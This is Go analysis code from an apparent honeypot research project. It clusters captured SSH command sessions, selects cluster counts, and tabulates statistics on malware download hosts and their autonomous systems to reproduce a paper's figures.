		out = append(out, Fig16Month{Month: m, UniqueExists: len(exists[m]), UniqueMissing: len(missing[m])})
	}
	return out
}

// Fig16Table renders the unique-command series.
func Fig16Table(rows []Fig16Month) *report.Table {
	t := &report.Table{
		Title:   "Figure 16: unique exec commands per month",
		Headers: []string{"month", "unique_file_exists", "unique_file_missing"},
	}
	for _, r := range rows {
		t.AddRow(r.Month.Format("2006-01"), r.UniqueExists, r.UniqueMissing)
	}
	return t
}

// ---------- Table 1: classification coverage ----------

// Table1Result reports rule-coverage statistics.
type Table1Result struct {
	Total      int
	Matched    int
	Unknown    int
	PerCat     map[string]int
	Categories int
}

// Table1 applies the classifier to every command session. The per-text
// classification runs on the batch API (parallel over distinct texts);
// the coverage tally is order-invariant counting.
func Table1(w *World) *Table1Result {
	res := &Table1Result{PerCat: map[string]int{}, Categories: w.Classifier.NumCategories()}
	recs := CmdExecSessions(w.Store)
	texts := make([]string, len(recs))
	for i, r := range recs {
		texts[i] = r.CommandText()
	}
	for _, cat := range w.classifyAll(texts) {
		res.Total++
		res.PerCat[cat]++
		if cat == "unknown" {
			res.Unknown++
		} else {
			res.Matched++
		}
	}
	return res
}

// Table renders coverage plus the per-category breakdown.
func (t1 *Table1Result) Table() *report.Table {
	t := &report.Table{
		Title:   "Table 1: regex classification coverage",
		Headers: []string{"category", "sessions", "share"},
	}
	cats := make([]string, 0, len(t1.PerCat))
	for c := range t1.PerCat {
		cats = append(cats, c)
	}
	sort.Slice(cats, func(i, j int) bool {
		if t1.PerCat[cats[i]] != t1.PerCat[cats[j]] {
			return t1.PerCat[cats[i]] > t1.PerCat[cats[j]]
		}
		return cats[i] < cats[j] // ties alphabetical: deterministic output
	})
	for _, c := range cats {
		t.AddRow(c, t1.PerCat[c], report.Pct(t1.PerCat[c], t1.Total))
	}
	t.AddRow("TOTAL", t1.Total, "")
	t.AddRow("matched", t1.Matched, report.Pct(t1.Matched, t1.Total))
	return t
}
