package analysis

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"honeynet/internal/cluster"
	"honeynet/internal/collector"
	"honeynet/internal/parallel"
	"honeynet/internal/report"
	"honeynet/internal/session"
	"honeynet/internal/textdist"
)

// ClusterConfig tunes the section 6 clustering pipeline.
type ClusterConfig struct {
	// K is the cluster count (the paper selects 90 via elbow+silhouette).
	K int
	// SampleSize caps how many file-involving sessions are clustered;
	// the pairwise matrix is quadratic. Distinct command texts are
	// deduplicated first with multiplicity preserved.
	SampleSize int
	// Seed fixes sampling and medoid initialization.
	Seed int64
	// Workers caps the goroutines used for the distance matrix and the
	// K-medoids steps (<= 0 means runtime.NumCPU()). The result is
	// identical for every value.
	Workers int
}

func (c ClusterConfig) defaults() ClusterConfig {
	if c.K == 0 {
		c.K = 90
	}
	if c.SampleSize == 0 {
		c.SampleSize = 2000
	}
	return c
}

// ClusterResult is the outcome of the session-clustering pipeline.
type ClusterResult struct {
	K int
	// Texts are the distinct clustered command texts.
	Texts []string
	// Weight is how many sessions share each text.
	Weight []int
	// Sessions maps each text index to its session records.
	Sessions [][]*session.Record
	// Matrix is the normalized token-DLD distance matrix over Texts.
	Matrix *cluster.Matrix
	// Res is the raw K-medoids result over Texts.
	Res *cluster.Result
	// Order maps display rank -> cluster id, sorted by ascending mean
	// token count (the paper sorts Cluster 1..90 this way).
	Order []int
	// Labels maps cluster id -> abuse-database family labels observed.
	Labels map[int][]string
}

// fillDLDMatrix builds the pairwise normalized token-DLD matrix on up to
// `workers` goroutines and returns the merged kernel work counters.
// Tokens are interned to int32 IDs first (serially, so ID assignment is
// deterministic) and each worker carries a reusable textdist.Scratch,
// making the banded DP loop allocation-free with integer equality
// checks. The matrix is identical to a serial string-token fill for
// every worker count.
func fillDLDMatrix(tokens [][]string, workers int) (*cluster.Matrix, textdist.KernelStats) {
	workers = parallel.Workers(workers)
	in := textdist.NewInterner()
	ids := make([][]int32, len(tokens))
	for i, t := range tokens {
		ids[i] = in.Intern(t)
	}
	scratch := make([]*textdist.Scratch, workers)
	for i := range scratch {
		scratch[i] = textdist.NewScratch()
	}
	m := cluster.FillParallel(len(ids), workers, func(w, i, j int) float64 {
		return scratch[w].NormalizedIDs(ids[i], ids[j])
	})
	var st textdist.KernelStats
	for _, s := range scratch {
		st.Add(s.Stats())
	}
	return m, st
}

// RunClustering executes the full pipeline: select sessions with
// downloads/drops, tokenize, build the DLD matrix (all via the shared
// DLDSample, so a preceding or following SelectK reuses the work),
// K-medoids, and label clusters via the abuse database.
func RunClustering(w *World, cfg ClusterConfig) (*ClusterResult, error) {
	cfg = cfg.defaults()
	smp, err := w.DLDSample(cfg)
	if err != nil {
		return nil, err
	}
	res := &ClusterResult{
		Texts:    smp.Texts,
		Weight:   smp.Weight,
		Sessions: smp.Sessions,
		Matrix:   smp.Matrix,
	}
	tokens := smp.Tokens

	k := cfg.K
	if k > len(res.Texts) {
		k = len(res.Texts)
	}
	res.K = k

	sp := w.span("cluster.kmedoids")
	cres, err := cluster.KMedoids(res.Matrix, k, cluster.Config{Seed: cfg.Seed, Workers: cfg.Workers})
	sp.End()
	if err != nil {
		return nil, err
	}
	res.Res = cres

	// Sort clusters by mean token count (Cluster 1 = shortest).
	meanTokens := make([]float64, k)
	counts := make([]int, k)
	for i, c := range cres.Assign {
		meanTokens[c] += float64(len(tokens[i]))
		counts[c]++
	}
	for c := range meanTokens {
		if counts[c] > 0 {
			meanTokens[c] /= float64(counts[c])
		}
	}
	res.Order = make([]int, k)
	for i := range res.Order {
		res.Order[i] = i
	}
	sort.Slice(res.Order, func(a, b int) bool {
		return meanTokens[res.Order[a]] < meanTokens[res.Order[b]]
	})

	// Label clusters by joining member hashes against the abuse DB.
	defer w.span("cluster.labels").End()
	res.Labels = map[int][]string{}
	for c := 0; c < k; c++ {
		seen := map[string]bool{}
		for _, i := range cres.Members(c) {
			for _, r := range res.Sessions[i] {
				for _, h := range r.DroppedHashes {
					if label, ok := w.AbuseDB.LookupHash(h); ok && !seen[label] {
						seen[label] = true
						res.Labels[c] = append(res.Labels[c], label)
					}
				}
			}
		}
		sort.Strings(res.Labels[c])
	}
	return res, nil
}

// ClusterWeight returns the total session weight of cluster c.
func (cr *ClusterResult) ClusterWeight(c int) int {
	n := 0
	for _, i := range cr.Res.Members(c) {
		n += cr.Weight[i]
	}
	return n
}

// Fig5Table summarizes the distance matrix per displayed cluster: the
// paper's heatmap reduced to intra- and inter-cluster mean normalized
// DLD per cluster (in the paper's size order).
func (cr *ClusterResult) Fig5Table(maxRows int) *report.Table {
	t := &report.Table{
		Title:   "Figure 5: normalized DLD matrix (cluster summary)",
		Headers: []string{"cluster", "texts", "sessions", "mean_intra_dld", "mean_inter_dld", "labels"},
	}
	// One pass over the matrix triangle accumulates, per text, its
	// distance mass toward every cluster. Each displayed row then reads
	// its intra/inter sums in O(members) instead of rescanning all
	// O(members·N) cells per cluster.
	k, n := cr.K, cr.Matrix.N
	rowCluster := make([]float64, n*k)
	rowTotal := make([]float64, n)
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			d := cr.Matrix.At(i, j)
			rowCluster[i*k+cr.Res.Assign[j]] += d
			rowCluster[j*k+cr.Res.Assign[i]] += d
			rowTotal[i] += d
			rowTotal[j] += d
		}
	}
	for rank, c := range cr.Order {
		if maxRows > 0 && rank >= maxRows {
			break
		}
		members := cr.Res.Members(c)
		intra, inter := 0.0, 0.0
		for _, i := range members {
			intra += rowCluster[i*k+c]
			inter += rowTotal[i] - rowCluster[i*k+c]
		}
		// Intra sums count each unordered member pair twice.
		intraN := len(members) * (len(members) - 1) / 2
		interN := len(members) * (n - len(members))
		if intraN > 0 {
			intra = intra / 2 / float64(intraN)
		} else {
			intra = 0
		}
		if interN > 0 {
			inter /= float64(interN)
		} else {
			inter = 0
		}
		t.AddRow(fmt.Sprintf("C-%d", rank+1), len(members), cr.ClusterWeight(c),
			intra, inter, strings.Join(cr.Labels[c], "+"))
	}
	return t
}

// Fig6Month is one month's session share per top cluster.
type Fig6Month struct {
	Month  time.Time
	Total  int
	Shares map[string]float64 // display name -> share
}

// Fig6 tracks the top-5 clusters (by total sessions) over time.
func (cr *ClusterResult) Fig6(topN int) []Fig6Month {
	type cw struct {
		c, w int
	}
	weights := make([]cw, cr.K)
	for c := 0; c < cr.K; c++ {
		weights[c] = cw{c, cr.ClusterWeight(c)}
	}
	sort.Slice(weights, func(a, b int) bool { return weights[a].w > weights[b].w })
	if topN > len(weights) {
		topN = len(weights)
	}
	top := weights[:topN]

	rankOf := map[int]int{}
	for rank, c := range cr.Order {
		rankOf[c] = rank + 1
	}
	name := func(c int) string {
		l := ""
		if len(cr.Labels[c]) > 0 {
			l = " (" + strings.Join(cr.Labels[c], ", ") + ")"
		}
		return fmt.Sprintf("C-%d%s", rankOf[c], l)
	}

	monthTotal := map[time.Time]int{}
	monthCluster := map[time.Time]map[string]int{}
	for i := range cr.Texts {
		c := cr.Res.Assign[i]
		inTop := false
		for _, t := range top {
			if t.c == c {
				inTop = true
				break
			}
		}
		for _, r := range cr.Sessions[i] {
			m := r.Month()
			monthTotal[m]++
			if inTop {
				if monthCluster[m] == nil {
					monthCluster[m] = map[string]int{}
				}
				monthCluster[m][name(c)]++
			}
		}
	}
	var out []Fig6Month
	for _, m := range collector.SortedMonths(monthTotal) {
		fm := Fig6Month{Month: m, Total: monthTotal[m], Shares: map[string]float64{}}
		for n, v := range monthCluster[m] {
			fm.Shares[n] = float64(v) / float64(monthTotal[m])
		}
		out = append(out, fm)
	}
	return out
}

// Fig6Table renders the top-cluster timeline.
func Fig6Table(rows []Fig6Month) *report.Table {
	names := map[string]bool{}
	for _, r := range rows {
		for n := range r.Shares {
			names[n] = true
		}
	}
	cols := make([]string, 0, len(names))
	for n := range names {
		cols = append(cols, n)
	}
	sort.Strings(cols)
	t := &report.Table{
		Title:   "Figure 6: top clusters (bots) over time",
		Headers: append([]string{"month", "sessions"}, cols...),
	}
	for _, r := range rows {
		row := []any{r.Month.Format("2006-01"), r.Total}
		for _, c := range cols {
			row = append(row, r.Shares[c])
		}
		t.AddRow(row...)
	}
	return t
}

// Fig14 computes the inter-category mean normalized DLD of Appendix B:
// for each pair of classification categories, the average distance
// between their member sessions' command texts.
type Fig14Result struct {
	Categories []string
	Mean       *cluster.Matrix
}

// Fig14 builds the category-level distance matrix from up to
// perCategory exemplar texts per category.
func Fig14(w *World, perCategory int) *Fig14Result {
	if perCategory <= 0 {
		perCategory = 20
	}
	recs := CmdExecSessions(w.Store)
	texts := make([]string, len(recs))
	for i, r := range recs {
		texts[i] = r.CommandText()
	}
	catOf := w.classifyAll(texts)
	// Exemplar selection walks records in store order, so it is
	// independent of how the batch classification was sharded.
	byCat := map[string][]string{}
	seen := map[string]map[string]bool{}
	for i, txt := range texts {
		cat := catOf[i]
		if len(byCat[cat]) >= perCategory {
			continue
		}
		if seen[cat] == nil {
			seen[cat] = map[string]bool{}
		}
		if seen[cat][txt] {
			continue
		}
		seen[cat][txt] = true
		byCat[cat] = append(byCat[cat], txt)
	}
	cats := make([]string, 0, len(byCat))
	for c := range byCat {
		cats = append(cats, c)
	}
	sort.Strings(cats)

	// Exemplar token streams indexed by category position, so the hot
	// cross-product loop below does two slice loads per cell instead of
	// hashing the category name on every exemplar pair.
	intern := textdist.NewInterner()
	tokens := make([][][]int32, len(cats))
	for ci, c := range cats {
		for _, txt := range byCat[c] {
			tokens[ci] = append(tokens[ci], intern.Intern(textdist.Tokenize(txt)))
		}
	}
	// Each matrix cell is the mean over an exemplar cross product; the
	// inner accumulation stays serial per cell, so the parallel fill is
	// bit-identical to the serial one.
	workers := w.workers()
	scratch := make([]*textdist.Scratch, parallel.Workers(workers))
	for i := range scratch {
		scratch[i] = textdist.NewScratch()
	}
	defer w.span("fig14.dld-matrix").End()
	m := cluster.FillParallel(len(cats), workers, func(wk, i, j int) float64 {
		s := scratch[wk]
		rows, cols := tokens[i], tokens[j]
		sum, n := 0.0, 0
		for _, ta := range rows {
			for _, tb := range cols {
				sum += s.NormalizedIDs(ta, tb)
				n++
			}
		}
		if n == 0 {
			return 0
		}
		return sum / float64(n)
	})
	return &Fig14Result{Categories: cats, Mean: m}
}

// Table renders the inter-category matrix (upper triangle).
func (f *Fig14Result) Table() *report.Table {
	t := &report.Table{
		Title:   "Figure 14: inter-category mean normalized DLD",
		Headers: append([]string{"category"}, f.Categories...),
	}
	for i, c := range f.Categories {
		row := []any{c}
		for j := range f.Categories {
			row = append(row, f.Mean.At(i, j))
		}
		t.AddRow(row...)
	}
	return t
}
