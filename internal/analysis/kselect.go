package analysis

import (
	"fmt"
	"math/rand"
	"sort"

	"honeynet/internal/cluster"
	"honeynet/internal/report"
	"honeynet/internal/session"
	"honeynet/internal/textdist"
)

// KSelection is the model-selection sweep of section 6: WCSS (for the
// elbow) and the silhouette score across candidate cluster counts.
type KSelection struct {
	Points []cluster.SweepPoint
	// ElbowK is the k at the maximal WCSS curvature.
	ElbowK int
	// BestSilhouetteK is the k maximizing the silhouette score.
	BestSilhouetteK int
}

// SelectK runs K-medoids over the download-session sample for each
// candidate k, reproducing the elbow + silhouette procedure with which
// the paper settles on k=90.
func SelectK(w *World, ks []int, sampleSize int, seed int64) (*KSelection, error) {
	if sampleSize <= 0 {
		sampleSize = 500
	}
	recs := w.Store.Filter(func(r *session.Record) bool {
		return IsSSH(r) && r.Kind() == session.CommandExec && len(r.Downloads) > 0
	})
	seen := map[string]bool{}
	var texts []string
	for _, r := range recs {
		txt := r.CommandText()
		if !seen[txt] {
			seen[txt] = true
			texts = append(texts, txt)
		}
	}
	if len(texts) == 0 {
		return nil, fmt.Errorf("analysis: no download sessions to sweep")
	}
	if len(texts) > sampleSize {
		rng := rand.New(rand.NewSource(seed))
		rng.Shuffle(len(texts), func(i, j int) { texts[i], texts[j] = texts[j], texts[i] })
		texts = texts[:sampleSize]
	}
	tokens := make([][]string, len(texts))
	for i, t := range texts {
		tokens[i] = textdist.Tokenize(t)
	}
	sp := w.span("kselect.dld-matrix")
	m := fillDLDMatrix(tokens, w.Workers)
	sp.End()

	var valid []int
	for _, k := range ks {
		if k >= 2 && k <= len(texts) {
			valid = append(valid, k)
		}
	}
	sort.Ints(valid)
	if len(valid) == 0 {
		return nil, fmt.Errorf("analysis: no valid k in %v for %d texts", ks, len(texts))
	}
	sp = w.span("kselect.sweep")
	points, err := cluster.SweepK(m, valid, cluster.Config{Seed: seed, Workers: w.Workers})
	sp.End()
	if err != nil {
		return nil, err
	}
	sel := &KSelection{Points: points, ElbowK: cluster.Elbow(points)}
	best := points[0]
	for _, p := range points[1:] {
		if p.Silhouette > best.Silhouette {
			best = p
		}
	}
	sel.BestSilhouetteK = best.K
	return sel, nil
}

// Table renders the sweep.
func (s *KSelection) Table() *report.Table {
	t := &report.Table{
		Title:   "Section 6: cluster-count selection (elbow + silhouette)",
		Headers: []string{"k", "wcss", "silhouette", "note"},
	}
	for _, p := range s.Points {
		note := ""
		if p.K == s.ElbowK {
			note += "elbow "
		}
		if p.K == s.BestSilhouetteK {
			note += "best-silhouette"
		}
		t.AddRow(p.K, p.WCSS, p.Silhouette, note)
	}
	return t
}
