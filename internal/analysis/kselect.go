package analysis

import (
	"fmt"
	"math/rand"
	"sort"

	"honeynet/internal/cluster"
	"honeynet/internal/report"
)

// KSelection is the model-selection sweep of section 6: WCSS (for the
// elbow) and the silhouette score across candidate cluster counts.
type KSelection struct {
	Points []cluster.SweepPoint
	// ElbowK is the k at the maximal WCSS curvature.
	ElbowK int
	// BestSilhouetteK is the k maximizing the silhouette score.
	BestSilhouetteK int
}

// SelectK runs K-medoids over a sweep-sized subset of the shared
// download-session sample for each candidate k, reproducing the elbow +
// silhouette procedure with which the paper settles on k=90. The subset
// is drawn deterministically (by seed) from the DLDSample built for
// ccfg, and its distance submatrix is copied out of the already-filled
// shared matrix — no pairwise DLD is recomputed, which the
// kselect.submatrix span's pairs_reused tag and the
// honeynet_analysis_dld_pairs_reused_total counter surface.
func SelectK(w *World, ks []int, sweepSize int, seed int64, ccfg ClusterConfig) (*KSelection, error) {
	if sweepSize <= 0 {
		sweepSize = 500
	}
	smp, err := w.DLDSample(ccfg)
	if err != nil {
		return nil, err
	}
	idx := make([]int, len(smp.Texts))
	for i := range idx {
		idx[i] = i
	}
	if len(idx) > sweepSize {
		rng := rand.New(rand.NewSource(seed))
		rng.Shuffle(len(idx), func(i, j int) { idx[i], idx[j] = idx[j], idx[i] })
		idx = idx[:sweepSize]
		sort.Ints(idx)
	}
	sp := w.span("kselect.submatrix")
	m := submatrix(smp.Matrix, idx)
	reused := int64(len(idx)) * int64(len(idx)-1) / 2
	dldPairsReused.Add(reused)
	sp.Tag("pairs_reused", reused)
	sp.End()

	var valid []int
	for _, k := range ks {
		if k >= 2 && k <= len(idx) {
			valid = append(valid, k)
		}
	}
	sort.Ints(valid)
	if len(valid) == 0 {
		return nil, fmt.Errorf("analysis: no valid k in %v for %d texts", ks, len(idx))
	}
	sp = w.span("kselect.sweep")
	points, err := cluster.SweepK(m, valid, cluster.Config{Seed: seed, Workers: w.Workers})
	sp.End()
	if err != nil {
		return nil, err
	}
	sel := &KSelection{Points: points, ElbowK: cluster.Elbow(points)}
	best := points[0]
	for _, p := range points[1:] {
		if p.Silhouette > best.Silhouette {
			best = p
		}
	}
	sel.BestSilhouetteK = best.K
	return sel, nil
}

// Table renders the sweep.
func (s *KSelection) Table() *report.Table {
	t := &report.Table{
		Title:   "Section 6: cluster-count selection (elbow + silhouette)",
		Headers: []string{"k", "wcss", "silhouette", "note"},
	}
	for _, p := range s.Points {
		note := ""
		if p.K == s.ElbowK {
			note += "elbow "
		}
		if p.K == s.BestSilhouetteK {
			note += "best-silhouette"
		}
		t.AddRow(p.K, p.WCSS, p.Silhouette, note)
	}
	return t
}
