package analysis

import (
	"sort"
	"time"

	"honeynet/internal/asdb"
	"honeynet/internal/collector"
	"honeynet/internal/report"
	"honeynet/internal/session"
)

// downloadSession is a (session, download) join row.
type downloadSession struct {
	rec *session.Record
	dl  session.Download
}

func downloads(w *World) []downloadSession {
	var out []downloadSession
	for _, r := range w.Store.All() {
		if !IsSSH(r) {
			continue
		}
		for _, d := range r.Downloads {
			if d.SourceIP != "" {
				out = append(out, downloadSession{rec: r, dl: d})
			}
		}
	}
	return out
}

// ---------- Section 7 headline storage statistics ----------

// StorageStats reproduces the section 7 numbers: client-vs-storage IP
// disjointness, unique counts, and abuse-report coverage.
type StorageStats struct {
	DownloadSessions   int
	StorageNEQClient   int
	UniqueClientIPs    int
	UniqueStorageIPs   int
	StorageIPsReported int
	StorageASes        int
	// DownASes counts storage ASes that no longer announce any prefix
	// (the paper found 36 of 388).
	DownASes int
}

// Storage computes the headline statistics.
func Storage(w *World) *StorageStats {
	st := &StorageStats{}
	clients := map[string]bool{}
	storage := map[string]bool{}
	ases := map[int]bool{}
	seenSession := map[uint64]bool{}
	for _, ds := range downloads(w) {
		if !seenSession[ds.rec.ID] {
			seenSession[ds.rec.ID] = true
			st.DownloadSessions++
			if ds.dl.SourceIP != ds.rec.ClientIP {
				st.StorageNEQClient++
			}
			clients[ds.rec.ClientIP] = true
		}
		if !storage[ds.dl.SourceIP] {
			storage[ds.dl.SourceIP] = true
			if w.AbuseDB.IPReported(ds.dl.SourceIP) {
				st.StorageIPsReported++
			}
			if as, ok := w.Registry.Lookup(ds.dl.SourceIP, ds.rec.Start); ok {
				if !ases[as.ASN] && as.Down {
					st.DownASes++
				}
				ases[as.ASN] = true
			}
		}
	}
	st.UniqueClientIPs = len(clients)
	st.UniqueStorageIPs = len(storage)
	st.StorageASes = len(ases)
	return st
}

// Table renders the storage statistics.
func (s *StorageStats) Table() *report.Table {
	t := &report.Table{
		Title:   "Section 7: malware storage statistics",
		Headers: []string{"metric", "value", "share"},
	}
	t.AddRow("download sessions", s.DownloadSessions, "")
	t.AddRow("storage IP != client IP", s.StorageNEQClient, report.Pct(s.StorageNEQClient, s.DownloadSessions))
	t.AddRow("unique client IPs (downloads)", s.UniqueClientIPs, "")
	t.AddRow("unique storage IPs", s.UniqueStorageIPs, "")
	t.AddRow("storage IPs in abuse feeds", s.StorageIPsReported, report.Pct(s.StorageIPsReported, s.UniqueStorageIPs))
	t.AddRow("distinct storage ASes", s.StorageASes, "")
	t.AddRow("storage ASes no longer announcing", s.DownASes, report.Pct(s.DownASes, s.StorageASes))
	return t
}

// ---------- Figure 7: Sankey of client vs. storage AS types ----------

// Fig7Result counts (clientType, storageType) download flows.
type Fig7Result struct {
	// Flows[clientType][storageType] = download count.
	Flows map[string]map[string]int
	// SameIP counts flows where client == storage IP (the blue flows).
	SameIP int
	Total  int
}

// Fig7 builds the Sankey flow counts.
func Fig7(w *World) *Fig7Result {
	res := &Fig7Result{Flows: map[string]map[string]int{}}
	for _, ds := range downloads(w) {
		cAS, ok1 := w.Registry.Lookup(ds.rec.ClientIP, ds.rec.Start)
		sAS, ok2 := w.Registry.Lookup(ds.dl.SourceIP, ds.rec.Start)
		if !ok1 || !ok2 {
			continue
		}
		ct, st := cAS.Type.String(), sAS.Type.String()
		if res.Flows[ct] == nil {
			res.Flows[ct] = map[string]int{}
		}
		res.Flows[ct][st]++
		res.Total++
		if ds.rec.ClientIP == ds.dl.SourceIP {
			res.SameIP++
		}
	}
	return res
}

// Table renders the flows.
func (f *Fig7Result) Table() *report.Table {
	t := &report.Table{
		Title:   "Figure 7: client AS type vs malware storage AS type (download flows)",
		Headers: []string{"client_type", "storage_type", "flows", "share"},
	}
	var cts []string
	for ct := range f.Flows {
		cts = append(cts, ct)
	}
	sort.Strings(cts)
	for _, ct := range cts {
		var sts []string
		for st := range f.Flows[ct] {
			sts = append(sts, st)
		}
		sort.Strings(sts)
		for _, st := range sts {
			t.AddRow(ct, st, f.Flows[ct][st], report.Pct(f.Flows[ct][st], f.Total))
		}
	}
	t.AddRow("(same client==storage IP)", "", f.SameIP, report.Pct(f.SameIP, f.Total))
	return t
}

// TypeShare returns the share of flows whose side (client or storage)
// has the given AS type.
func (f *Fig7Result) TypeShare(storageSide bool, typ string) float64 {
	n := 0
	for ct, m := range f.Flows {
		for st, v := range m {
			if (storageSide && st == typ) || (!storageSide && ct == typ) {
				n += v
			}
		}
	}
	if f.Total == 0 {
		return 0
	}
	return float64(n) / float64(f.Total)
}

// ---------- Figure 8: AS age and size of storage locations ----------

// Fig8Month buckets a month's download sessions by storage-AS age and
// size.
type Fig8Month struct {
	Month    time.Time
	Sessions int
	// Age buckets.
	AgeUnder1y, Age1to5y, AgeOver5y int
	// Size buckets (announced /24 count).
	SizeOne, SizeUnder50, SizeOver50 int
}

// Fig8 computes both Figure 8(a) and 8(b) series.
func Fig8(w *World) []Fig8Month {
	perMonth := map[time.Time]*Fig8Month{}
	for _, ds := range downloads(w) {
		as, ok := w.Registry.Lookup(ds.dl.SourceIP, ds.rec.Start)
		if !ok {
			continue
		}
		m := monthKey(ds.rec.Start)
		row, ok := perMonth[m]
		if !ok {
			row = &Fig8Month{Month: m}
			perMonth[m] = row
		}
		row.Sessions++
		age := as.AgeAt(ds.rec.Start)
		const year = 365 * 24 * time.Hour
		switch {
		case age < year:
			row.AgeUnder1y++
		case age < 5*year:
			row.Age1to5y++
		default:
			row.AgeOver5y++
		}
		switch {
		case as.Prefixes24 <= 1:
			row.SizeOne++
		case as.Prefixes24 < 50:
			row.SizeUnder50++
		default:
			row.SizeOver50++
		}
	}
	var out []Fig8Month
	for _, m := range collector.SortedMonths(perMonth) {
		out = append(out, *perMonth[m])
	}
	return out
}

// Fig8Totals aggregates the age/size buckets over the whole window.
type Fig8Totals struct {
	Sessions                         int
	AgeUnder1y, Age1to5y, AgeOver5y  int
	SizeOne, SizeUnder50, SizeOver50 int
}

// Totals sums the monthly rows.
func Fig8Sum(rows []Fig8Month) Fig8Totals {
	var t Fig8Totals
	for _, r := range rows {
		t.Sessions += r.Sessions
		t.AgeUnder1y += r.AgeUnder1y
		t.Age1to5y += r.Age1to5y
		t.AgeOver5y += r.AgeOver5y
		t.SizeOne += r.SizeOne
		t.SizeUnder50 += r.SizeUnder50
		t.SizeOver50 += r.SizeOver50
	}
	return t
}

// Fig8Table renders both series.
func Fig8Table(rows []Fig8Month) *report.Table {
	t := &report.Table{
		Title: "Figure 8: AS age and size of malware storage locations",
		Headers: []string{"month", "sessions", "age<1y", "age<5y", "age>=5y",
			"one/24", "<50/24", ">=50/24"},
	}
	for _, r := range rows {
		t.AddRow(r.Month.Format("2006-01"), r.Sessions,
			report.Pct(r.AgeUnder1y, r.Sessions),
			report.Pct(r.AgeUnder1y+r.Age1to5y, r.Sessions),
			report.Pct(r.AgeOver5y, r.Sessions),
			report.Pct(r.SizeOne, r.Sessions),
			report.Pct(r.SizeOne+r.SizeUnder50, r.Sessions),
			report.Pct(r.SizeOver50, r.Sessions))
	}
	return t
}

// ---------- Figure 9: storage IP activity over recall windows ----------

// Fig9Buckets are the activity-day buckets of the figure.
var Fig9Buckets = []struct {
	Name string
	Max  int // inclusive upper bound in days
}{
	{"<=1d", 1}, {"<=4d", 4}, {"<=1w", 7}, {"<=2w", 14}, {"<=4w", 28},
	{"<=8w", 56}, {"<=16w", 112}, {"<=0.5y", 182}, {"<=1y", 365}, {">1y", 1 << 30},
}

// Fig9Quarter is one quarter's activity-day distribution for a recall
// window.
type Fig9Quarter struct {
	Quarter time.Time
	// CountByBucket[i] counts storage IPs whose total distinct active
	// days within the recall window fall into Fig9Buckets[i].
	CountByBucket []int
	Total         int
}

// Fig9 computes, for each recall window (in days; 0 = entire dataset),
// the quarterly distribution of per-IP activity spans: for each storage
// IP first seen in a quarter, the number of days between its first and
// last sighting within the recall window. A span beyond six months means
// the IP "reappeared after at least six months" — the pool-rotation
// signal of section 7.
func Fig9(w *World, recallDays int) []Fig9Quarter {
	// Collect per-IP sorted activity days.
	days := map[string]map[time.Time]bool{}
	for _, ds := range downloads(w) {
		ip := ds.dl.SourceIP
		if days[ip] == nil {
			days[ip] = map[time.Time]bool{}
		}
		days[ip][ds.rec.Day()] = true
	}
	perQuarter := map[time.Time]*Fig9Quarter{}
	for _, set := range days {
		var ds []time.Time
		for d := range set {
			ds = append(ds, d)
		}
		sort.Slice(ds, func(i, j int) bool { return ds[i].Before(ds[j]) })
		first := ds[0]
		last := first
		if recallDays <= 0 {
			last = ds[len(ds)-1]
		} else {
			limit := first.AddDate(0, 0, recallDays)
			for _, d := range ds {
				if d.Before(limit) {
					last = d
				}
			}
		}
		active := int(last.Sub(first).Hours()/24) + 1
		q := time.Date(first.Year(), time.Month((int(first.Month())-1)/3*3+1), 1, 0, 0, 0, 0, time.UTC)
		row, ok := perQuarter[q]
		if !ok {
			row = &Fig9Quarter{Quarter: q, CountByBucket: make([]int, len(Fig9Buckets))}
			perQuarter[q] = row
		}
		for i, b := range Fig9Buckets {
			if active <= b.Max {
				row.CountByBucket[i]++
				break
			}
		}
		row.Total++
	}
	var out []Fig9Quarter
	for _, q := range collector.SortedMonths(perQuarter) {
		out = append(out, *perQuarter[q])
	}
	return out
}

// LongLivedShare returns, across all quarters, the fraction of storage
// IPs active on more days than minDays within the recall window.
func LongLivedShare(rows []Fig9Quarter, minBucket int) float64 {
	long, total := 0, 0
	for _, r := range rows {
		total += r.Total
		for i := minBucket; i < len(r.CountByBucket); i++ {
			long += r.CountByBucket[i]
		}
	}
	if total == 0 {
		return 0
	}
	return float64(long) / float64(total)
}

// Fig9Table renders one recall window's series.
func Fig9Table(title string, rows []Fig9Quarter) *report.Table {
	headers := []string{"quarter", "ips"}
	for _, b := range Fig9Buckets {
		headers = append(headers, b.Name)
	}
	t := &report.Table{Title: title, Headers: headers}
	for _, r := range rows {
		row := []any{r.Quarter.Format("2006-01"), r.Total}
		for i := range Fig9Buckets {
			row = append(row, report.Pct(r.CountByBucket[i], r.Total))
		}
		t.AddRow(row...)
	}
	return t
}

// ---------- Figure 17: storage AS types over time ----------

// Fig17Month is one month's storage-AS-type mix.
type Fig17Month struct {
	Month    time.Time
	Sessions int
	ByType   map[string]int
}

// Fig17 buckets download sessions by the storage AS type per month.
func Fig17(w *World) []Fig17Month {
	perMonth := map[time.Time]*Fig17Month{}
	for _, ds := range downloads(w) {
		as, ok := w.Registry.Lookup(ds.dl.SourceIP, ds.rec.Start)
		if !ok {
			continue
		}
		m := monthKey(ds.rec.Start)
		row, ok := perMonth[m]
		if !ok {
			row = &Fig17Month{Month: m, ByType: map[string]int{}}
			perMonth[m] = row
		}
		row.Sessions++
		row.ByType[as.Type.String()]++
	}
	var out []Fig17Month
	for _, m := range collector.SortedMonths(perMonth) {
		out = append(out, *perMonth[m])
	}
	return out
}

// Fig17Table renders the type mix.
func Fig17Table(rows []Fig17Month) *report.Table {
	types := []string{
		asdb.TypeCDN.String(), asdb.TypeHosting.String(),
		asdb.TypeISPNSP.String(), asdb.TypeOther.String(),
	}
	t := &report.Table{
		Title:   "Figure 17: AS types of malware storage locations over time",
		Headers: append([]string{"month", "sessions"}, types...),
	}
	for _, r := range rows {
		row := []any{r.Month.Format("2006-01"), r.Sessions}
		for _, typ := range types {
			row = append(row, report.Pct(r.ByType[typ], r.Sessions))
		}
		t.AddRow(row...)
	}
	return t
}
