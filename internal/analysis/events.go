package analysis

import (
	"time"

	"honeynet/internal/report"
	"honeynet/internal/session"
)

// Event is one documented external attack event from the section 10
// calendar.
type Event struct {
	Name     string
	From, To time.Time
}

// EventCalendar lists the section 10 events the paper correlates with
// the campaign's low-activity periods.
var EventCalendar = []Event{
	{"IRIDIUM DDoS vs Ukrainian infrastructure", day(2022, 3, 16), day(2022, 3, 25)},
	{"Follow-up attack wave", day(2022, 4, 2), day(2022, 4, 13)},
